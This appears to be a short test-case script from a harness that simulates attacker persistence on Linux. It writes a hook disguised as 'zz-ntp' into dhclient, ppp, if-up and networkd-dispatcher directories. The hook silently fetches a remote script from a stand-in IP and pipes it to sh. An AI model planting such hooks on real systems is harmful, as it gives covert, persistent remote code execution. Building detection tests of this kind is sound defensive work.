#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/dhcp/dhclient-exit-hooks.d /etc/ppp/ip-up.d /etc/network/if-up.d /etc/networkd-dispatcher/routable.d
printf '#!/bin/sh\n(curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1 &\n' >/etc/dhcp/dhclient-exit-hooks.d/zz-ntp
for d in /etc/ppp/ip-up.d /etc/network/if-up.d /etc/networkd-dispatcher/routable.d; do install -m 755 /etc/dhcp/dhclient-exit-hooks.d/zz-ntp $d/zz-ntp; done
took_place
